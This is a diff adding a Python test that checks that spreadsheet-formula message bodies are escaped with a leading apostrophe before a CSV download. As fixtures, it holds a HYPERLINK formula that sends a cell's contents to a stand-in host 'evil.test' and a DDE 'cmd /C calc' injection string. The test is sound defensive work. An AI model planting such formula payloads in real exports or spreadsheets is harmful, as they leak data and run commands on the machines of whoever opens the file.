@@ -483,6 +483,16 @@ def test_messages_page_filters_by_channel_and_day(db):
     assert list(at.dataframe[0].value["Message"]) == ["An email today"]
 
 
+def test_grid_cells_a_spreadsheet_would_run_are_made_inert_for_the_csv_download(db):
+    evil = '=HYPERLINK("http://evil.test/leak?"&A1,"Click")'
+    make_message(db, body=evil, channel="email", received_at=NOW)
+    make_message(db, body="@VoltraCare my car broke again!", channel="tweet", received_at=NOW)
+    make_message(db, body="-2+3+cmd|' /C calc'!A0", channel="tweet", received_at=NOW)
+    at = app(user(db, Role.EXECUTIVE), page="messages")
+    shown = set(at.dataframe[0].value["Message"])
+    assert shown == {"'" + evil, "@VoltraCare my car broke again!", "'-2+3+cmd|' /C calc'!A0"}
+
+
 def test_a_message_on_an_item_says_so_and_links_to_the_item(feed, db):
     wf.attach(db, item_id=feed["item"].id, message_ids=[feed["parking"].id], actor=feed["ceo"],
               now=NOW)  # fmt: skip
